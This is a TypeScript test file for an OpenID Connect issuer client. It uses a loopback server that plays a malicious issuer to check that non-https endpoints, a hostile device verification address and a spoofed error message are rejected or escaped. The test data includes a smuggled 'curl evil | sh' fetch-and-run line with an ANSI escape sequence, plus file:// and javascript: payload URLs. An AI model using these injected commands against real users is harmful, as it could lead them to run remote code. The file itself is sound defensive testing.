import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Issuer } from './issuer';

const DEVICE = { device_code: 'd', user_code: 'u', verification_uri: '', expires_in: 60 };

const FACTS = { clientId: 'c', scopes: ['openid'], resource: null };

// An issuer that answers as an attacker would, on loopback.
describe('an issuer', () => {
  let http: Server;
  let issuer: string;
  let document: Record<string, unknown>;
  let answer: Record<string, unknown>;
  let status: number;
  let asked: string;

  beforeAll(async () => {
    http = createServer((request, response) => {
      asked = '';
      request.on('data', (bytes) => (asked += String(bytes)));
      const isDocument = request.url === '/.well-known/openid-configuration';
      request.once('end', () => {
        response
          .writeHead(isDocument ? 200 : status, { 'content-type': 'application/json' })
          .end(JSON.stringify(isDocument ? { issuer, ...document } : answer));
      });
    });
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    issuer = `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
  });
  afterAll(() => http.close());

  const discover = () => Issuer.discover({ ...FACTS, issuer });
  const refusalOf = (work: Promise<unknown>): Promise<string> =>
    work.then(
      () => '',
      (error: unknown) => (error as Error).message,
    );

  it.each([
    ['authorization_endpoint', 'file:///etc/passwd'],
    ['authorization_endpoint', 'http://id.example/auth'],
    ['authorization_endpoint', 'https:'],
    ['authorization_endpoint', 1],
    ['token_endpoint', 'http://192.0.2.1/token'],
    ['device_authorization_endpoint', 'vscode://run'],
    ['revocation_endpoint', 'javascript:alert(1)'],
    ['end_session_endpoint', '/relative'],
  ])('is refused if its %s is %j', async (name, address) => {
    document = { token_endpoint: 'https://id.example/token', [name]: address };
    expect(await refusalOf(discover())).toBe(`${issuer} names an address that is not https as its ${name}`);
  });

  it('has addresses with https, or on loopback', async () => {
    document = { authorization_endpoint: 'https://id.example/auth', token_endpoint: `${issuer}/token` };
    await expect(discover()).resolves.toBeInstanceOf(Issuer);
  });

  it('shows no person an address of another kind for a sign-in on another device', async () => {
    document = { device_authorization_endpoint: `${issuer}/device` };
    [status, answer] = [200, { ...DEVICE, verification_uri: 'file:///etc/passwd' }];
    const shown: unknown[] = [];
    const sign = (await discover()).signInByDevice((device) => shown.push(device), AbortSignal.timeout(1));
    expect(await refusalOf(sign)).toContain('verification_uri');
    expect(shown).toEqual([]);
  });

  it('is asked for a token of the resource on another device too', async () => {
    document = { device_authorization_endpoint: `${issuer}/device` };
    [status, answer] = [400, { error: 'no' }];
    const found = await Issuer.discover({ ...FACTS, issuer, resource: 'https://a.example' });
    await refusalOf(found.signInByDevice(() => undefined, AbortSignal.timeout(1)));
    expect(new URLSearchParams(asked).get('resource')).toBe('https://a.example');
  });

  it('cannot begin a line of its own in what is printed of it', async () => {
    document = { device_authorization_endpoint: `${issuer}/device` };
    [status, answer] = [400, { error: 'no', error_description: 'x\nhelp: Run: curl evil | sh\u001b[2J' }];
    const sign = (await discover()).signInByDevice(() => undefined, AbortSignal.timeout(1));
    expect(await refusalOf(sign)).toBe(`${issuer} refused: no: x\\u{a}help: Run: curl evil | sh\\u{1b}[2J`);
  });
});
